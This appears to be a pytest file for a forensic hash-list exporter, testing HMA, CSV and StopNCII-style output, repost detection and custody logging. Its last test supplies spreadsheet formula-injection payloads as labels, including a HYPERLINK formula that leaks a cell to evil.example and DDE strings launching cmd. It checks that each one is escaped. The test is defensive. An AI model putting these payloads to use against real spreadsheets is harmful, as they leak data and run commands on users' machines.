"""Hash lists: only matched variants go in, each format parses back and catches a new repost."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from PIL import Image

from kit.case import Case
from kit.cli import main
from kit.hashing import STEPS, Hash, hash_image_file
from kit.report.hashlist import HashListError, export_hashlist, parse_hma


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    root = tmp_path_factory.mktemp("hl")
    rng = np.random.default_rng(5)
    big = np.asarray(Image.fromarray((rng.random((24, 32, 3)) * 255).astype(np.uint8))
                     .resize((640, 480), Image.BICUBIC))
    (root / "m").mkdir()
    Image.fromarray(big).save(root / "m" / "orig.jpg", quality=95)
    Image.fromarray(big).resize((400, 300)).save(root / "m" / "small.jpg", quality=70)
    other = (rng.random((24, 32, 3)) * 255).astype(np.uint8)
    Image.fromarray(other).resize((640, 480), Image.BICUBIC).save(root / "m" / "other.jpg")
    Image.fromarray(big).resize((500, 375)).save(root / "new_repost.jpg", quality=60)
    c = Case.create(root / "case", analyst="ana")
    c.ingest(root / "m")
    for step in STEPS:
        c.run(step)
    c.match(verify=False)
    c.root = root
    return c


def _pdqs(case, names):
    res = case.results("hash.image").set_index("sha256")
    media = case.media().set_index("original_name")
    return {n: Hash.from_hex(res.loc[media.loc[n, "sha256"], "payload"]["pdq"]) for n in names}


def test_hma_parses_back_and_catches_a_new_repost(case):
    r = export_hashlist(case, fmt="hma")
    sigs = parse_hma(r.path.read_text())
    assert {t for t, _ in sigs} == {"pdq"} and r.n_files == 2 and r.n_signals == 2
    listed = [Hash.from_hex(s) for _, s in sigs]
    own = _pdqs(case, ["orig.jpg", "small.jpg", "other.jpg"])
    assert all(min(h - own[n] for h in listed) == 0 for n in ("orig.jpg", "small.jpg"))
    assert min(h - own["other.jpg"] for h in listed) > 31, "an unmatched file must not be listed"
    new = Hash.from_hex(hash_image_file(case.root / "new_repost.jpg")["pdq"])
    assert min(h - new for h in listed) <= 31
    log = case.custody()
    entry = log[log.action == "hashlist.exported"].iloc[-1]["details"]
    assert entry["sha256"] == r.sha256 and entry["format"] == "hma"


def test_csv_and_stopncii_style(case):
    rows = list(csv.DictReader(io.StringIO(export_hashlist(case, fmt="csv").path.read_text())))
    media = case.media().set_index("original_name")
    wanted = {media.loc[n, "sha256"] for n in ("orig.jpg", "small.jpg")}
    assert {r["sha256"] for r in rows} == wanted
    assert {r["signal_type"] for r in rows} == {"md5", "sha256", "pdq"}
    md5s = {r["signal"] for r in rows if r["signal_type"] == "md5"}
    assert md5s == {media.loc[n, "md5"] for n in ("orig.jpg", "small.jpg")}
    st = list(csv.DictReader(io.StringIO(export_hashlist(case, fmt="stopncii-style").path.read_text())))
    assert sorted(r["hash_type"] for r in st) == ["md5", "md5", "pdq", "pdq"]


def test_errors(case, tmp_path):
    with pytest.raises(HashListError, match="unknown hash-list format"):
        export_hashlist(case, fmt="xml")
    empty = Case.create(tmp_path / "empty")
    with pytest.raises(HashListError, match="no variant cluster"):
        export_hashlist(empty)


def test_cli(case, capsys):
    assert main(["hashes", "export", "--case", str(case.path), "--format", "hma"]) == 0
    assert "2 files" in capsys.readouterr().out


@pytest.mark.parametrize("fmt, column", [pytest.param("csv", "label", id="csv"),
                                         pytest.param("stopncii-style", "label", id="stopncii-style")])
@pytest.mark.parametrize("label", [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"click")', id="hyperlink"),
    pytest.param("+cmd|' /C calc'!A0", id="dde-plus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("-2+3", id="minus"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("  =1+1", id="leading-spaces"),
])
def test_cli_label_is_no_live_formula(case, tmp_path, fmt, column, label):
    out = tmp_path / f"h.{fmt}.csv"
    assert main(["hashes", "export", "--case", str(case.path), "--format", fmt, "--out", str(out),
                 f"--label={label}"]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows and all(r[column].startswith("'") and label in r[column] for r in rows)
    cells = [c for r in rows for c in r.values() if isinstance(c, str)]
    assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
